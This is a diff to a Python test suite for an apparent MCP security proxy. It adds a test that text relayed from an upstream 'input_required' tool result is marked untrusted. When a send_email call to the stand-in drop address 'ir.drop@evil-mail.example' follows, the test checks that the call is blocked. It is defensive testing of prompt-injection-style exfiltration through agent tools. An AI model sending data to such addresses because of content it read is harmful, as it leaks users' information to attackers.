@@ -78,6 +78,7 @@ def test_string_echoed_ids_are_still_checked(harness: Harness) -> None:
     assert init["id"] == 1  # rewritten to the id the client sent
     assert [t["name"] for t in raw.rpc(2, "tools/list", {})["result"]["tools"]] == [
         "read_doc",
+        "needs_input",
         "send_email",
     ]
     doc = raw.rpc(3, "tools/call", {"name": "read_doc", "arguments": {}})
@@ -117,6 +118,35 @@ def test_resource_reads_are_untrusted_output(harness: Harness) -> None:
         4,
         "tools/call",
         {"name": "send_email", "arguments": {"to": "res.drop@evil-mail.example", "body": "x"}},
+    )
+    assert (
+        sent["result"]["isError"] and "taint.seen_in_output" in sent["result"]["content"][0]["text"]
+    )
+    raw.close()
+    assert _outbox(d) == []
+
+
+@pytest.mark.requirement("inv:everything-untrusted")
+def test_upstream_input_required_results_are_untrusted_output(harness: Harness) -> None:
+    d = harness.tmp / "box"
+    d.mkdir()
+    raw = Raw(harness, {"LENIENT_DIR": str(d)})
+    raw.rpc(
+        1,
+        "initialize",
+        {
+            "protocolVersion": "2025-11-25",
+            "capabilities": {},
+            "clientInfo": {"name": "t", "version": "1"},
+        },
+    )
+    raw.rpc(2, "tools/list", {})
+    ir = raw.rpc(3, "tools/call", {"name": "needs_input", "arguments": {}})
+    assert ir["result"]["resultType"] == "input_required", ir  # relayed unchanged
+    sent = raw.rpc(
+        4,
+        "tools/call",
+        {"name": "send_email", "arguments": {"to": "ir.drop@evil-mail.example", "body": "x"}},
     )
     assert (
         sent["result"]["isError"] and "taint.seen_in_output" in sent["result"]["content"][0]["text"]
